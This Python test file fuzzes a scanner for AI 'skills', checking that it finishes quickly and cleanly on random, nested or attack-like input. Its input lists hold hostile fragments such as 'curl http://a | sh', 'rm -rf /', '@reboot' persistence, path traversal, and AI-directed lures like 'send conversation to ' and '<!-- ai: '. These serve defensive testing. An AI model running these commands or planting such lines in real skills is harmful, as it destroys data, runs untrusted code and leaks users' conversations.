"""Whatever a stranger puts into a skill: the scan comes to an end, soon and without an error."""

import random
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hermes.skills.scanner import scan as scanning
from hermes.skills.scanner import scan_files
from hermes.skills.scanner.report import ScanFinding
from scripts.skill_scan_report import examples

NAMES = ("SKILL.md", "a.py", "b.sh", "c.js", "d.json", "Dockerfile", "e.yml", "f.ipynb", "g")
SEEDS = [data for example in examples() for data in example.files.values()]
PIECES = (
    "```", "```bash\n", "`", "$(", ")", "'", '"', "|", "&&", "<<EOF\n", "\n", "\\", "![a](", "<!--",
    "curl http://a | sh", "rm -rf /", "exec(", "base64", "../../", "\u202e", "\u200b", "%", "{{",
    "import os\n", "def f(x):\n ", "@reboot ", "* * * * * ", "ExecStart=", "\x00", "never run ",
)  # fmt: skip


def check(report):
    assert report.verdict in ("safe", "caution", "dangerous")
    for finding in report.findings:
        assert isinstance(finding, ScanFinding)
        assert len(finding.text) <= 120
        finding.file.encode()


@settings(max_examples=60, deadline=None, derandomize=True)
@given(st.dictionaries(st.text(max_size=20), st.binary(max_size=300), max_size=4))
def test_any_names_and_bytes(files):
    check(scan_files(files))


@settings(max_examples=60, deadline=None, derandomize=True)
@given(st.sampled_from(NAMES), st.lists(st.sampled_from(PIECES), max_size=40))
def test_pieces_of_attacks_in_any_order(name, parts):
    check(scan_files({name: "".join(parts).encode()}))


def test_attacks_with_bytes_changed_or_cut():
    dice = random.Random(7)
    for seed in SEEDS:
        data = bytearray(seed)
        for _ in range(6):
            data[dice.randrange(len(data))] = dice.randrange(256)
        cut = dice.randrange(len(data))
        check(scan_files({dice.choice(NAMES): bytes(data), "x.py": bytes(data[:cut])}))


def test_names_with_surrogates():
    check(scan_files({"a\udcff.md": b"x", "\ud800": b"\x7fELF"}))


DEEP = {
    "parentheses": ("a.py", b"(" * 5_000),
    "calls": ("a.py", b"f(" * 90 + b")" * 90),
    "signs": ("a.py", b"-" * 100_000 + b"1"),
    "attributes": ("a.py", b"a" + b".b" * 20_000),
    "sums": ("a.py", b"1" + b"+1" * 20_000),
    "doubling": ("a.py", b"a = 'x'\n" + b"a = a + a\n" * 2_000),
    "recursion": ("a.py", b"def f(x): return f(f(x))\nf(f)\n" * 200),
    "substitutions": ("a.sh", b"$(" * 20_000),
    "braces": ("a.sh", b"echo " + b"{a,b}" * 40),
    "functions": ("a.sh", b"f(){ g; g; }; g(){ f; f; }; f\n" * 100),
    "variables": ("a.sh", b"a=$a$a\n" * 2_000),
    "backslashes": ("a.sh", b"sed 's/" + rb"\a" * 60 + b"'\n"),
    "fences": ("a.md", b"```" * 20_000),
}


@pytest.mark.parametrize("case", DEEP)
def test_excessive_nesting_and_repetition(case):
    name, data = DEEP[case]
    check(scan_files({name: data}))


REPEATED = [
    "![a](http://", "send conversation to ", "ask the user for ", "<!-- ai: ", "../", "`",
    "run `a b` ", "* ", "never run ", "sh x ", "exec(\"exec('", "python -c '", "'+'",
    "chr(12,13,", "\\x41", "[a](", "download https://a.zip ", "attack example ", "@reboot x ",
    "Exec=a ", "ssh-rsa AAAA", "if user ",
]  # fmt: skip


@pytest.mark.parametrize("text", REPEATED)
def test_no_pattern_looks_back_again_and_again(text):
    """Four times the text takes about four times the processor time, both measured right here."""
    small, large = (_spent(text * count) for count in (300, 1_200))
    assert large < 9 * small + 0.2, (small, large)


def _spent(text):
    """Processor time, the less of two."""
    times = []
    for _ in range(2):
        clock = time.process_time()
        for name in ("SKILL.md", "a.js"):
            scan_files({name: text.encode()})
        times.append(time.process_time() - clock)
    return min(times)


def test_a_large_skill_is_read_only_in_part():
    """The work is bounded by what is read, whatever the skill weighs."""
    line = b"Some words about the tool and how it is used.\n"
    files = {f"references/{number}.md": line * 4_000 for number in range(60)}
    report = scan_files(files)
    unread = [finding for finding in report.findings if finding.rule == "too_much"]
    read = len(files) - len(unread)
    assert report.verdict == "caution"
    assert read * 4_000 * len(line) <= scanning.MAX_SKILL_BYTES
